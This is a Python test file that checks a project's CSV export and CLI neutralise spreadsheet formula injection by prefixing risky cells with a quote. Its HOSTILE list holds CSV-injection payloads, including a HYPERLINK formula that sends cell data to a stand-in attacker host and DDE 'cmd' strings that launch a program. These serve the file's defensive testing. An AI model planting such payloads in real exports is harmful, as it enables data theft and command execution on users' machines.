"""Exported CSV cells that a spreadsheet would run as a formula are neutralised (OWASP
"CSV injection": a leading =, +, -, @, tab or carriage return gets a ' in front), in
the CLI's export and the Events page's download; numbers stay numbers."""

import csv
import io

import pytest

from geo.export import events_csv, neutralise_cell
from tests.conftest import make_event
from tests.test_cli import run_cli

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_cell_gets_a_quote_in_front(cell):
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Idlib", "", "Syria = war", "'already", "1-2 May"])
def test_plain_text_is_left_alone(cell):
    assert neutralise_cell(cell) == cell


def _rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_events_csv_neutralises_every_text_column_and_keeps_numbers(store):
    events = [make_event(n, actor1=cell, evidence=cell, location=cell, latitude=-33.5,
                         longitude=-70.25)
              for n, cell in enumerate(HOSTILE)]
    store.upsert_events(events)
    rows = _rows(events_csv(store.load_frame()))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for col in ("actor1", "evidence", "location"):
            assert row[col][0] == "'", row[col]
        assert row["latitude"] == "-33.5" and row["longitude"] == "-70.25"


def test_cli_export_csv_has_no_live_formula(store, db_url, tmp_path):
    store.upsert_events([make_event(n, evidence=cell, actor2=cell)
                         for n, cell in enumerate(HOSTILE)])
    out = tmp_path / "events.csv"
    result = run_cli("export", "--format", "csv", "--out", out, db_url=db_url)
    assert result.returncode == 0, result.stderr
    rows = _rows(out.read_bytes())
    live = [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "@", "\t",
                                                                          "\r")]
    assert live == [] and len(rows) == len(HOSTILE)
